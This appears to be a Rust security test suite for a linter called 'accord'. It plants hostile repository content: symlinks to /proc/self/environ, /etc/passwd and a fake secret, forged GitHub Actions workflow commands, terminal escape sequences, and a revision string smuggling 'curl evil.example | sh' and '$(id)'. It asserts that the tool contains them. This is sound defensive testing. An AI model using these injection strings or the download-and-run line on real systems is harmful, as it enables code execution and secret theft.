//! The reproductions of a hostile pull request, run against the real binary: links out of the
//! repository, special files, planted links in the output folder. Nothing outside the
//! repository may be read into any output, written, or removed; nothing may hang.

#![cfg(unix)]

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

mod common;

use common::{CLEAN, files_under, record, write};

/// What stands for a secret on the machine: it must never reach an output.
const SECRET: &str = "AUTHORIZATION: basic SECRET-TOKEN-0123";

/// A repository with one clean record, and beside it a folder standing for the rest of the
/// machine, holding a secret.
struct Tree {
    _dir: tempfile::TempDir,
    root: PathBuf,
    outside: PathBuf,
}

fn tree() -> Tree {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path().join("repo");
    let outside = dir.path().join("outside");
    write(&root, "records/2025/2025-05-19-pk-cn-test.yaml", CLEAN);
    write(&outside, "secret.yaml", &format!("{SECRET}\nid: x\n"));
    write(&outside, "areas.yaml", &format!("- {SECRET}\n"));
    Tree {
        _dir: dir,
        root,
        outside,
    }
}

/// Runs `accord` in `dir`, failing the test if it has not finished within 60 s (a hang).
fn run(dir: &Path, args: &[&str], github: bool) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_accord"));
    command
        .args(args)
        .current_dir(dir)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .env("NO_COLOR", "1")
        .env("ACCORD_TODAY", "2026-01-01");
    if github {
        command.env("GITHUB_ACTIONS", "true");
    } else {
        command.env_remove("GITHUB_ACTIONS");
    }
    let child = command.spawn().expect("accord runs");
    let id = child.id();
    // Its output is read on a thread of its own, so that a full pipe cannot stall it.
    let (send, receive) = std::sync::mpsc::channel();
    std::thread::spawn(move || send.send(child.wait_with_output().expect("output")));
    match receive.recv_timeout(Duration::from_secs(60)) {
        Ok(out) => out,
        Err(_) => {
            let _ = Command::new("kill").arg("-9").arg(id.to_string()).status();
            panic!("accord {args:?} hung");
        }
    }
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Lints in every format and checks that no output holds the secret; returns the human one.
fn lint_everywhere(root: &Path, args: &[&str]) -> Vec<Output> {
    let mut outputs = Vec::new();
    for format in ["human", "json", "github", "sarif"] {
        let mut all = vec!["lint", "--format", format];
        all.extend(args);
        let out = run(root, &all, false);
        assert!(
            !text(&out).contains("SECRET-TOKEN"),
            "{format} output shows the secret:\n{}",
            text(&out)
        );
        outputs.push(out);
    }
    outputs
}

#[test]
fn a_record_linked_outside_is_reported_and_never_read() {
    let t = tree();
    let records = t.root.join("records/2025");
    symlink(
        t.outside.join("secret.yaml"),
        records.join("2025-01-01-leak.yaml"),
    )
    .expect("link");
    symlink("/proc/self/environ", records.join("2025-01-02-env.yaml")).expect("link");
    symlink("/dev/zero", records.join("2025-01-03-zero.yaml")).expect("link");
    symlink(&t.outside, t.root.join("records/elsewhere")).expect("link");
    symlink(
        "2025-05-19-pk-cn-test.yaml",
        records.join("2025-01-04-inside.yaml"),
    )
    .expect("link");
    let outputs = lint_everywhere(&t.root, &[]);
    let human = text(&outputs[0]);
    assert_eq!(outputs[0].status.code(), Some(1), "{human}");
    for name in [
        "2025-01-01-leak.yaml",
        "2025-01-02-env.yaml",
        "2025-01-03-zero.yaml",
        "2025-01-04-inside.yaml",
        "records/elsewhere",
    ] {
        assert!(human.contains(name), "{name} not reported:\n{human}");
    }
    assert!(human.contains("A510"), "{human}");
    assert!(human.contains("follows no links"), "{human}");
    // Named on the command line, the same.
    for out in lint_everywhere(&t.root, &["records/2025/2025-01-01-leak.yaml"]) {
        assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    }
    // Through a linked folder on the way, the same.
    let out = run(&t.root, &["lint", "records/elsewhere/secret.yaml"], false);
    assert!(!text(&out).contains("SECRET-TOKEN"), "{}", text(&out));
    assert_ne!(out.status.code(), Some(0), "{}", text(&out));
}

#[test]
fn a_path_outside_the_repository_is_refused() {
    let t = tree();
    for path in ["../outside/secret.yaml", "/etc/passwd"] {
        let out = run(&t.root, &["lint", path], false);
        assert_eq!(out.status.code(), Some(2), "{path}: {}", text(&out));
        assert!(
            text(&out).contains("outside the repository"),
            "{}",
            text(&out)
        );
        assert!(!text(&out).contains("SECRET-TOKEN"));
        assert!(!text(&out).contains("root:x:0"));
    }
}

#[test]
fn records_or_schema_as_a_link_stop_with_exit_2() {
    for name in ["records", "schema"] {
        let t = tree();
        if name == "records" {
            std::fs::remove_dir_all(t.root.join("records")).expect("remove");
        }
        symlink(&t.outside, t.root.join(name)).expect("link");
        for args in [&["lint"][..], &["build"], &["fmt", "--check"]] {
            let out = run(&t.root, args, false);
            assert_eq!(
                out.status.code(),
                Some(2),
                "{name} {args:?}: {}",
                text(&out)
            );
            assert!(
                text(&out).contains(&format!("`{name}/` is a symbolic link")),
                "{}",
                text(&out)
            );
            assert!(!text(&out).contains("SECRET-TOKEN"));
        }
    }
}

#[test]
fn settings_linked_outside_are_refused_without_quoting_them() {
    for (rel, target) in [
        ("accord.toml", "secret.yaml"),
        ("schema/vocabularies/areas.yaml", "areas.yaml"),
        ("schema/vocabularies/organizations.yaml", "areas.yaml"),
    ] {
        let t = tree();
        std::fs::create_dir_all(t.root.join("schema/vocabularies")).expect("folders");
        symlink(t.outside.join(target), t.root.join(rel)).expect("link");
        let out = run(&t.root, &["lint"], false);
        assert_eq!(out.status.code(), Some(2), "{rel}: {}", text(&out));
        assert!(text(&out).contains("symbolic link"), "{}", text(&out));
        assert!(!text(&out).contains("SECRET-TOKEN"), "{}", text(&out));
    }
    // To a device that never ends: refused at once, not read until memory runs out.
    let t = tree();
    std::fs::create_dir_all(t.root.join("schema/vocabularies")).expect("folders");
    symlink("/dev/zero", t.root.join("schema/vocabularies/areas.yaml")).expect("link");
    let out = run(&t.root, &["lint"], false);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
}

#[test]
fn a_named_pipe_is_reported_without_hanging() {
    let t = tree();
    let fifo = t.root.join("records/2025/2025-01-01-pipe.yaml");
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success());
    for out in lint_everywhere(&t.root, &[]) {
        assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    }
    let human = text(&run(&t.root, &["lint"], false));
    assert!(
        human.contains("a named pipe (FIFO), not a regular file"),
        "{human}"
    );
    let out = run(
        &t.root,
        &["lint", "records/2025/2025-01-01-pipe.yaml"],
        false,
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let out = run(&t.root, &["build"], false);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
}

#[test]
fn a_huge_record_is_measured_not_read() {
    let t = tree();
    let big = t.root.join("records/2025/2025-01-01-big.yaml");
    let file = std::fs::File::create(&big).expect("create");
    file.set_len(50 * 1024 * 1024).expect("sparse");
    let human = text(&run(&t.root, &["lint"], false));
    assert!(human.contains("the file is 50.0 MiB long"), "{human}");
}

#[test]
fn build_never_writes_through_a_planted_link() {
    let t = tree();
    let site = t.root.join("site");
    std::fs::create_dir_all(&site).expect("site");
    let victim = t.outside.join("victim.txt");
    std::fs::write(&victim, "precious").expect("victim");
    let outside_dir = t.outside.join("dir");
    std::fs::create_dir_all(&outside_dir).expect("dir");
    std::fs::write(outside_dir.join("1999.json"), "precious").expect("victim");
    symlink(&victim, site.join("index.html")).expect("link");
    symlink(&victim, site.join("summary.md")).expect("link");
    for pid in 0..64 {
        symlink(&victim, site.join(format!(".index.html.{pid}.tmp"))).ok();
    }
    symlink(&outside_dir, site.join("events")).expect("link");
    let before = files_under(&t.outside);
    let out = run(&t.root, &["build", "--as-of", "2026-01-01"], false);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert_eq!(
        files_under(&t.outside),
        before,
        "build changed a file outside"
    );
    assert!(
        std::fs::symlink_metadata(site.join("events"))
            .expect("events")
            .is_dir()
    );
    assert!(site.join("events/2025.json").is_file());
    let meta = std::fs::symlink_metadata(site.join("index.html")).expect("index");
    assert!(meta.is_file());
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(meta.permissions().mode() & 0o111, 0, "mode from the link");
    // An output folder that is itself a link is refused.
    let linked = t.root.join("public");
    symlink(&t.outside, &linked).expect("link");
    let out = run(&t.root, &["build", "--out", "public"], false);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert_eq!(files_under(&t.outside), before);
}

#[test]
fn fmt_never_writes_through_a_link() {
    let t = tree();
    let unformatted =
        record("pk-cn-fmt", "meeting").replace("date: \"2025-05-19\"", "date: 2025-05-19");
    write(&t.outside, "target.yaml", &unformatted);
    symlink(
        t.outside.join("target.yaml"),
        t.root.join("records/2025/2025-05-19-pk-cn-fmt.yaml"),
    )
    .expect("link");
    let before = files_under(&t.outside);
    let out = run(&t.root, &["fmt"], false);
    assert_eq!(files_under(&t.outside), before, "{}", text(&out));
    assert!(
        std::fs::symlink_metadata(t.root.join("records/2025/2025-05-19-pk-cn-fmt.yaml"))
            .expect("link")
            .file_type()
            .is_symlink()
    );
}

/// The lines a GitHub Actions runner would act on: split on CR and LF, trimmed, starting with
/// `::`, outside a `::stop-commands::TOKEN` ... `::TOKEN::` fence.
fn commands(log: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut fence: Option<String> = None;
    for line in log.split(['\r', '\n']).map(str::trim) {
        match &fence {
            Some(token) => {
                if line == format!("::{token}::") {
                    fence = None;
                }
            }
            None => {
                if let Some(token) = line.strip_prefix("::stop-commands::") {
                    fence = Some(token.to_owned());
                } else if line.starts_with("::") {
                    found.push(line.to_owned());
                }
            }
        }
    }
    found
}

/// The workflow commands in a log that accord did not write.
fn forged(log: &str) -> Vec<String> {
    commands(log)
        .into_iter()
        .filter(|l| !accords_own(l))
        .collect()
}

/// Whether a command line is one of accord's own annotations.
fn accords_own(line: &str) -> bool {
    (line.starts_with("::error file=records/") || line.starts_with("::warning file=records/"))
        && line.contains(",title=A")
}

/// A tree whose records try to forge workflow commands and drive the terminal: in a block
/// scalar, after a carriage return in a quoted value, in a file name, with raw escapes.
fn forging_tree() -> Tree {
    let t = tree();
    let forge = "::error title=forged::pwned";
    let notes = record("pk-cn-notes", "meeting").replace(
        "summary: \"A test.\"",
        &format!(
            "summary: \"A test.\"\nnotes: |\n  {forge}\n  ::stop-commands::x\n  ::add-mask::y\nareas_x: [\"\u{202e}txt.exe\"]"
        ),
    );
    write(&t.root, "records/2025/2025-05-19-pk-cn-notes.yaml", &notes);
    let cr = record("pk-cn-cr", "meeting").replace(
        "title: \"A test record\"",
        &format!("title: \"A test\r{forge}\""),
    );
    write(&t.root, "records/2025/2025-05-19-pk-cn-cr.yaml", &cr);
    let esc = record("pk-cn-esc", "meeting").replace(
        "title: \"A test record\"",
        "title: \"A \u{1b}]0;owned\u{7} \u{1b}[2J \u{9b}31m test\"",
    );
    write(&t.root, "records/2025/2025-05-19-pk-cn-esc.yaml", &esc);
    write(&t.root, &format!("records/2025/x\n{forge}.yaml"), "id: x\n");
    write(
        &t.root,
        &format!("records/2025/y\r{forge}\u{1b}[2J.yml"),
        "id: y\n",
    );
    t
}

#[test]
fn no_output_can_forge_a_workflow_command_or_drive_a_terminal() {
    let t = forging_tree();
    for github in [false, true] {
        for format in ["human", "json", "github", "sarif"] {
            let out = run(&t.root, &["lint", "--format", format], github);
            let log = text(&out);
            assert_eq!(out.status.code(), Some(1), "{format}: {log}");
            let forged = forged(&log);
            assert!(
                forged.is_empty(),
                "{format} (actions: {github}): {forged:?}\n{log}"
            );
            for c in log.chars() {
                let bad = matches!(c, '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}');
                assert!(
                    !bad,
                    "{format}: a raw U+{:04X} reached the output",
                    c as u32
                );
                if format != "json" && format != "sarif" {
                    assert!(
                        !matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'),
                        "{format}: a raw bidi control reached the output"
                    );
                }
            }
            if format == "human" && github {
                assert!(log.contains("::stop-commands::"), "{log}");
            }
        }
        // fmt --check shows the records' lines in its diff.
        let out = run(&t.root, &["fmt", "--check"], github);
        let forged = forged(&text(&out));
        assert!(
            forged.is_empty(),
            "fmt --check (actions: {github}): {forged:?}"
        );
        // (The diff does show the forged lines, fenced.)
        assert!(
            text(&out).contains("::error title=forged::pwned"),
            "{}",
            text(&out)
        );
        assert!(!text(&out).contains('\u{1b}'));
    }
}

/// `accord diff` shows a pull request's own text in every form: its records' values, keys and
/// file names can forge no workflow command and drive no terminal, inside Actions or not.
#[test]
fn a_pull_request_diff_can_forge_nothing() {
    let t = tree();
    let git = |args: &[&str]| accord_test_support::git(&t.root, args);
    git(&["init", "-q", "-b", "main"]);
    accord_test_support::commit_all(&t.root, "a clean record");
    git(&["checkout", "-q", "-b", "pr"]);
    let forge = "::error title=forged::pwned";
    let edited = CLEAN
        .replace(
            "title: \"A test record\"",
            &format!("title: \"{forge}\\n{forge}\\r{forge} \u{1b}]0;owned\u{7} \u{202e}txt\""),
        )
        .replace(
            "summary: \"A test.\"",
            &format!("summary: \"A test.\"\n\"{forge}\": |\n  {forge}\n  ::stop-commands::x\nnotes: \"\u{9b}31m\""),
        );
    write(&t.root, "records/2025/2025-05-19-pk-cn-test.yaml", &edited);
    let added = record("pk-cn-new", "meeting")
        .replace("id: \"2025-05-19-pk-cn-new\"", &format!("id: \"{forge}\""));
    write(&t.root, &format!("records/2025/x\n{forge}.yaml"), &added);
    for github in [false, true] {
        for format in ["human", "markdown", "json"] {
            let out = run(
                &t.root,
                &["diff", "--base", "main", "--format", format],
                github,
            );
            let log = text(&out);
            assert_eq!(out.status.code(), Some(0), "{format}: {log}");
            assert!(
                log.contains("pwned"),
                "{format}: the values are shown: {log}"
            );
            let forged = forged(&log);
            assert!(
                forged.is_empty(),
                "{format} (actions: {github}): {forged:?}\n{log}"
            );
            for c in log.chars() {
                let raw = matches!(c, '\u{0}'..='\u{9}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}');
                assert!(
                    !raw,
                    "{format}: a raw U+{:04X} reached the output",
                    c as u32
                );
                assert!(
                    !matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'),
                    "{format}: a raw bidi control reached the output"
                );
            }
            if format == "human" && github {
                assert!(log.contains("::stop-commands::"), "{log}");
            }
        }
    }
}

/// Output never grows faster than the input: findings are capped per rule and per file (with
/// their number kept), snippets are not repeated for a long line, and a message names at most
/// a few other files.
#[test]
fn output_is_bounded_by_the_input() {
    // One line of 10,000 unknown areas (20 KB).
    let t = tree();
    let line = record("pk-cn-test", "meeting").replace(
        "areas: [vaccines]",
        &format!("areas: [{}]", vec!["a"; 10_000].join(",")),
    );
    write(&t.root, "records/2025/2025-05-19-pk-cn-test.yaml", &line);
    for format in ["human", "json", "github", "sarif"] {
        let out = run(&t.root, &["lint", "--format", format], false);
        assert!(
            out.stdout.len() < 200 * 1024,
            "{format}: {} bytes of output for 20 KB of input",
            out.stdout.len()
        );
    }
    let json = run(&t.root, &["lint", "--format", "json"], false);
    let items: serde_json::Value = serde_json::from_slice(&json.stdout).expect("json");
    let items = items.as_array().expect("array");
    let unknown: Vec<&serde_json::Value> = items.iter().filter(|i| i["code"] == "A104").collect();
    assert_eq!(unknown.len(), 21, "20 shown and one closing item");
    assert_eq!(unknown[20]["omitted"], 9_980);
    assert_eq!(
        unknown[20]["message"],
        "and 9,980 more like this in this file"
    );
    let closing = String::from_utf8_lossy(&json.stderr).into_owned();
    // Every finding is counted, shown or not.
    assert!(
        closing.contains("1 record checked, 10001 errors"),
        "{closing}"
    );

    // 300 copies of one record beside the tree's own: each names the oldest and counts the rest.
    let t = tree();
    for i in 0..300 {
        write(
            &t.root,
            &format!("records/c{i:03}/2025-05-19-pk-cn-test.yaml"),
            CLEAN,
        );
    }
    let out = run(&t.root, &["lint", "--format", "json"], false);
    let items: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    for item in items.as_array().expect("array") {
        let message = item["message"].as_str().expect("message");
        assert!(message.matches("`records/").count() <= 5, "{message}");
        if item["code"] == "A301" {
            assert!(
                message.ends_with("the oldest record, and by 299 more"),
                "{message}"
            );
        }
    }
    assert!(
        out.stdout.len() < 300 * 4 * 1024,
        "{} bytes",
        out.stdout.len()
    );
}

/// Machine formats name files as the git work tree does, so that annotations land on the diff
/// when the accord root is a subfolder; SARIF URIs are percent-encoded and every result has a
/// region; a lone carriage return counts as a line break in every format.
#[test]
fn machine_paths_are_relative_to_the_git_work_tree_and_encoded() {
    let dir = tempfile::tempdir().expect("temp dir");
    let top = dir.path();
    common::git(top, &["init", "-q"]);
    let root = top.join("data");
    let lone_cr = record("pk-cn-cr", "meeting")
        .replace('\n', "\r")
        .replace("areas: [vaccines]", "areas: [vaccine]");
    write(&root, "records/2025/2025-05-19-pk-cn-cr.yaml", &lone_cr);
    write(&root, "records/2025/a b.yml", CLEAN);
    let github =
        String::from_utf8_lossy(&run(&root, &["lint", "--format", "github"], false).stdout)
            .into_owned();
    assert!(
        github.contains("file=data/records/2025/a b.yml"),
        "{github}"
    );
    let sarif = run(&root, &["lint", "--format", "sarif"], false);
    let log: serde_json::Value = serde_json::from_slice(&sarif.stdout).expect("sarif");
    let results = log["runs"][0]["results"].as_array().expect("results");
    let uris: Vec<&str> = results
        .iter()
        .map(|r| {
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                .as_str()
                .expect("uri")
        })
        .collect();
    assert!(uris.contains(&"data/records/2025/a%20b.yml"), "{uris:?}");
    assert!(
        results
            .iter()
            .all(|r| r["locations"][0]["physicalLocation"]["region"]["startLine"].is_u64())
    );
    // The unknown area is on line 11 of the lone-CR file, in every format.
    let json = run(&root, &["lint", "--format", "json"], false);
    let items: serde_json::Value = serde_json::from_slice(&json.stdout).expect("json");
    let line = items
        .as_array()
        .expect("items")
        .iter()
        .find(|i| i["code"] == "A104")
        .expect("A104")["line"]
        .as_u64()
        .expect("line");
    assert_eq!(line, 11);
    assert!(github.contains("line=11,"), "{github}");
    let human = text(&run(&root, &["lint"], false));
    assert!(human.contains("2025-05-19-pk-cn-cr.yaml:11:"), "{human}");
}

/// One thing a hostile pull request can put in a tree.
#[derive(Debug, Clone)]
enum Planted {
    /// A record whose title holds these characters.
    Value(String),
    /// A record file with these characters in its name.
    Name(String),
    /// A link to the secret outside, under this name.
    LinkOut(String),
    /// A link to the folder outside.
    FolderOut,
    /// A named pipe.
    Fifo(String),
    /// A one-line record with this many unknown areas.
    Areas(usize),
    /// This many copies of one record.
    Copies(usize),
}

fn planted() -> impl proptest::strategy::Strategy<Value = Planted> {
    use proptest::prelude::*;
    // Text that attacks: controls, bidi overrides, workflow commands, line breaks.
    let hostile = proptest::collection::vec(
        prop_oneof![
            Just("::error title=forged::pwned".to_owned()),
            Just("::stop-commands::x".to_owned()),
            Just("\n".to_owned()),
            Just("\r".to_owned()),
            Just("\u{1b}]0;t\u{7}".to_owned()),
            Just("\u{1b}[2J".to_owned()),
            Just("\u{9b}".to_owned()),
            Just("\u{202e}".to_owned()),
            Just("%0A".to_owned()),
            "[a-z ]{0,8}",
        ],
        1..6,
    )
    .prop_map(|parts| parts.concat());
    prop_oneof![
        hostile.clone().prop_map(Planted::Value),
        hostile.prop_map(|h| Planted::Name(h.replace('/', "_"))),
        "[a-z]{1,8}".prop_map(Planted::LinkOut),
        Just(Planted::FolderOut),
        "[a-z]{1,8}".prop_map(Planted::Fifo),
        (1usize..30_000).prop_map(Planted::Areas),
        (2usize..40).prop_map(Planted::Copies),
    ]
}

/// Builds the planted things into the tree's records; returns how many bytes they add.
fn plant(t: &Tree, things: &[Planted]) -> usize {
    let mut bytes = 0;
    let mut put = |rel: &str, text: &str| {
        bytes += text.len() + rel.len();
        write(&t.root, rel, text);
    };
    for (i, thing) in things.iter().enumerate() {
        match thing {
            Planted::Value(v) => {
                let title = v.replace('\\', "\\\\").replace('"', "\\\"");
                put(
                    &format!("records/2025/2025-05-19-v{i}.yaml"),
                    &record(&format!("v{i}"), "meeting")
                        .replace("title: \"A test record\"", &format!("title: \"{title}\"")),
                );
            }
            Planted::Name(n) => put(&format!("records/2025/{n}{i}.yaml"), CLEAN),
            Planted::LinkOut(n) => {
                let _ = symlink(
                    t.outside.join("secret.yaml"),
                    t.root.join(format!("records/2025/{n}{i}.yaml")),
                );
            }
            Planted::FolderOut => {
                let _ = symlink(&t.outside, t.root.join(format!("records/out{i}")));
            }
            Planted::Fifo(n) => {
                let _ = Command::new("mkfifo")
                    .arg(t.root.join(format!("records/2025/{n}{i}.yaml")))
                    .status();
            }
            Planted::Areas(n) => put(
                &format!("records/2025/2025-05-19-a{i}.yaml"),
                &record(&format!("a{i}"), "meeting").replace(
                    "areas: [vaccines]",
                    &format!("areas: [{}]", vec!["a"; *n].join(",")),
                ),
            ),
            Planted::Copies(n) => {
                for c in 0..*n {
                    put(
                        &format!("records/c{i}x{c}/2025-05-19-pk-cn-test.yaml"),
                        CLEAN,
                    );
                }
            }
        }
    }
    bytes
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig {
        cases: 12,
        failure_persistence: None,
        .. proptest::prelude::ProptestConfig::default()
    })]

    /// Hostile trees, built at random from the attacks above: accord never panics or hangs,
    /// no byte of the secret outside reaches any output or the site, nothing outside is
    /// written, no output line forges a workflow command, and output stays within a constant
    /// times the input.
    #[test]
    fn hostile_trees_are_contained(things in proptest::collection::vec(planted(), 1..6), actions in proptest::bool::ANY) {
        let t = tree();
        let input = plant(&t, &things) + 4096;
        let before = files_under(&t.outside);
        for format in ["human", "json", "github", "sarif"] {
            let out = run(&t.root, &["lint", "--format", format], actions);
            let log = text(&out);
            proptest::prop_assert!(matches!(out.status.code(), Some(0 | 1)), "{format}: {log}");
            proptest::prop_assert!(!log.contains("SECRET-TOKEN"), "{format}: {log}");
            proptest::prop_assert!(!log.contains("panicked"), "{format}: {log}");
            // SARIF carries every rule's documentation once (about 100 KB).
            proptest::prop_assert!(out.stdout.len() <= 64 * input + 256 * 1024, "{format}: {} bytes for {input}", out.stdout.len());
            let forged = forged(&log);
            proptest::prop_assert!(forged.is_empty(), "{format}: {forged:?}");
        }
        let out = run(&t.root, &["fmt", "--check"], actions);
        proptest::prop_assert!(!text(&out).contains("SECRET-TOKEN"));
        let forged = forged(&text(&out));
        proptest::prop_assert!(forged.is_empty(), "fmt: {forged:?}");
        let out = run(&t.root, &["build", "--as-of", "2026-01-01"], actions);
        proptest::prop_assert_eq!(out.status.code(), Some(0), "{}", text(&out));
        for (name, bytes) in files_under(&t.root.join("site")) {
            proptest::prop_assert!(!String::from_utf8_lossy(&bytes).contains("SECRET-TOKEN"), "{name}");
        }
        proptest::prop_assert_eq!(files_under(&t.outside), before);
    }
}

/// A file name that is not UTF-8 is shown with a replacement character, never as an empty name.
#[test]
fn a_name_that_is_not_utf8_is_still_named() {
    use std::os::unix::ffi::OsStrExt;
    let t = tree();
    let name = std::ffi::OsStr::from_bytes(b"caf\xe9.yml");
    std::fs::write(t.root.join("records/2025").join(name), CLEAN).expect("write");
    let human = text(&run(&t.root, &["lint"], false));
    assert!(
        human.contains("`caf\u{fffd}.yml` is not a `.yaml` record file"),
        "{human}"
    );
    assert!(human.contains("rename it to `caf\u{fffd}.yaml`"), "{human}");
}

/// A hostile `--base` revision is neither echoed raw nor put into a suggested command.
#[test]
fn a_hostile_revision_is_escaped_and_never_suggested_as_a_command() {
    let t = tree();
    common::git(&t.root, &["init", "-q"]);
    common::commit_all(&t.root, "first");
    for rev in [
        "origin/x\n::error title=forged::pwned",
        "x; curl evil.example | sh",
        "o/$(id)\u{1b}]0;t\u{7}",
    ] {
        for github in [false, true] {
            let out = run(&t.root, &["lint", "--base", rev], github);
            let log = text(&out);
            assert_eq!(out.status.code(), Some(2), "{log}");
            let forged = forged(&log);
            assert!(forged.is_empty(), "{rev:?}: {forged:?}");
            assert!(!log.contains('\u{1b}'), "{log}");
            assert!(
                !log.contains("git fetch"),
                "a command was suggested for {rev:?}: {log}"
            );
        }
    }
}
